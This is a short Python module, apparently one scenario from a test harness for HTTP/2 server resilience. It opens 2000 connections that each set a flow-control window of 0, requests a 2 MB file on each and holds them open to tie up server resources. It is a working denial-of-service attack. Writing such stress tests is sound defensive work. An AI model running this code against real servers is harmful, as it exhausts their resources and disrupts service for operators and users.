"""Clients that request a file of 2 MB over plain HTTP/2, each with a window of 0 for its
one stream, so that no byte of the body may be sent."""

import frames
from attack import Attack, still_open
from server_configurations import CLEAR_HTTP2

ATTACK = Attack(configurations=("static",), seconds=(10, 20))
CONNECTIONS = 2000


async def run(target):
    first = frames.opening({frames.INITIAL_WINDOW: 0})
    opened = await target.many(CONNECTIONS, lambda _: target.http2(first, CLEAR_HTTP2))
    await target.one_after_another(opened, frames.request(1, frames.head(b"/large")))
    await target.wait()
    return f"{len(opened)} connections, a stream of 2 MB waiting on each, {still_open(opened)} stayed"
